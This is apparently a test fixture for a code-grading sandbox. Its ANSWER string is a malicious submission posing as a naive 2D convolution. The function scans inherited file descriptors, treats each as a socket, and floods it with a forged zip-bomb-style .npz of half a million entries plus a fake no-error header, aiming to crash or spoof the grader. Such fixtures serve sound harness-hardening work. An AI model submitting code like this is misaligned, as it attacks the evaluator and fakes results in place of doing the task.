"""Answer with an .npz of half a million empty arrays."""

SLOW = True

ANSWER = """
import io, os, socket, struct
def conv2d_naive(x, w):
    entry = b"PK\\x01\\x02" + bytes(24) + struct.pack("<H", 1) + bytes(16) + b"a"
    many = 500_000
    end = b"PK\\x05\\x06" + struct.pack("<HHHHIIH", 0, 0, 65535, 65535, len(entry) * many, 0, 0)
    body, header = entry * many + end, b'{"value": {"array": "a"}, "error": null}'
    for fd in range(3, 256):
        try:
            with socket.socket(fileno=os.dup(fd)) as sock:
                sock.sendall(struct.pack("!II", len(header), len(body)) + header + body)
        except OSError:
            pass
    return x
"""
